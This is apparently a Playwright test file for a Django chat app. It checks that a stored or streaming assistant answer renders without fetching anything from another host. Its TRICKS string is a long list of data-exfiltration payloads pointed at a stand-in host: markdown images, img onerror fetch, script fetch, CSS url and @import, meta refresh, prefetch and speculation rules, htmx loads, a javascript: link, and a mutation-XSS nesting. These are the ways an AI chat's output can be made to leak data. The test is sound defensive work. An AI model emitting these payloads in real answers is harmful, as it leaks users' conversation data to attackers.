"""An answer with every trick that could make a page fetch something: a real Chromium asks nobody but this server.

`visit` itself fails a test whose page asked another host, or tried to and was held back by the policy alone.
"""

import json
from collections.abc import Callable
from uuid import UUID

from django.conf import settings
from playwright.sync_api import Page, expect
from redis import Redis

from apps.chat import stream
from apps.chat.models import Conversation, Message
from apps.tenants import traces
from apps.tenants.context import tenant_context
from tests.conftest import Cast

SECRET = "https://secret-28-days.evil.example/x.png?q=28%20days"
TRICKS = f"""Everybody gets 28 days. ![chart]({SECRET}) and ![]({SECRET})

![by name][pixel] ![pixel] [![inside a link]({SECRET})]({SECRET})

[pixel]: {SECRET} "title"

| a | b |
|---|---|
| ![in a table]({SECRET}) | <img src="{SECRET}"> |

> <img srcset="{SECRET} 2x" onerror="fetch('{SECRET}')" src=x>

<img src="{SECRET}">
<picture><source srcset="{SECRET}"><img src="{SECRET}"></picture>
<video autoplay poster="{SECRET}" src="{SECRET}"></video><audio autoplay src="{SECRET}"></audio>
<object data="{SECRET}"></object><embed src="{SECRET}"><iframe src="{SECRET}" srcdoc="<img src={SECRET}>"></iframe>
<svg xmlns="http://www.w3.org/2000/svg"><image href="{SECRET}"/><use href="{SECRET}#a"/><feImage href="{SECRET}"/></svg>
<math><mtext><table><mglyph><style><img src="{SECRET}"></style></mglyph></table></mtext></math>
<style>@import "{SECRET}"; body {{ background: url({SECRET}) }}</style>
<p style="background-image: url({SECRET})" background="{SECRET}">styled</p>
<link rel="stylesheet" href="{SECRET}"><link rel="prefetch" href="{SECRET}"><link rel="dns-prefetch" href="{SECRET}">
<link rel="preconnect" href="{SECRET}"><meta http-equiv="refresh" content="0;url={SECRET}"><base href="{SECRET}">
<script>fetch("{SECRET}")</script><script src="{SECRET}"></script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{SECRET}"]}}]}}</script>
<form action="{SECRET}"><input type="image" src="{SECRET}"></form><a ping="{SECRET}" href="{SECRET}">ping</a>
<div hx-get="{SECRET}" hx-trigger="load" data-hx-get="{SECRET}">htmx</div>

![data](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)
[a link]({SECRET}) <{SECRET}> {SECRET} [script](javascript:fetch('{SECRET}'))

The last line."""
LOADERS = (
    "img, picture, source, video, audio, object, embed, iframe, svg, math, style, link, script, form, input, base, meta"
)


def asked(cast: Cast, **reply: str) -> tuple[UUID, UUID]:
    """A question of Alice's and a reply to it: the conversation's id and the reply's."""
    with tenant_context(cast.acme):
        conversation = Conversation.objects.create(user=cast.alice, title="Leave")
        question = Message.objects.create(conversation=conversation, role="user", text="How many days?")
        answer = Message.objects.create(conversation=conversation, role="assistant", in_reply_to=question, **reply)
    return conversation.id, answer.id


def expect_harmless(page: Page) -> None:
    answer = page.locator("[data-answer] [data-text]")
    expect(answer).to_contain_text("The last line.")
    page.wait_for_load_state("networkidle")
    assert answer.locator(LOADERS).count() == 0
    assert answer.locator("[style], [srcset], [ping], [background], [hx-get]").count() == 0
    hosts = answer.locator("a[href]").evaluate_all("links => links.map(link => new URL(link.href).host)")
    assert hosts and all(host.startswith("secret-28-days.ev") for host in hosts)  # a link's may be cut yet
    links = answer.get_by_role("link", name="chart (secret-28-days.evil.example)", exact=True)
    expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_a_stored_answer_loads_nothing(visit: Callable[..., Page], committed_cast: Cast) -> None:
    conversation_id, _ = asked(committed_cast, text=TRICKS)

    page = visit(committed_cast.alice, f"/t/acme/chat/{conversation_id}/")

    expect_harmless(page)


def test_an_answer_loads_nothing_while_it_is_written(visit: Callable[..., Page], committed_cast: Cast) -> None:
    conversation_id, reply_id = asked(committed_cast, status=Message.Status.STREAMING)
    redis = Redis.from_url(settings.REDIS_URL, decode_responses=True)
    with tenant_context(committed_cast.acme):
        name = stream.key(reply_id)
    redis.set(name + traces.ALIVE, 1, ex=120)
    page = visit(committed_cast.alice, f"/t/acme/chat/{conversation_id}/")

    for at in range(0, len(TRICKS), 7):
        redis.xadd(name, {"event": json.dumps({"type": "delta", "text": TRICKS[at : at + 7]})})

    expect_harmless(page)
    redis.xadd(name, {"event": json.dumps({"type": "done", "status": "ok", "citations": [], "notes": []})})
    expect(page.locator("[data-answer]")).to_have_attribute("data-status", "ok")
    expect_harmless(page)
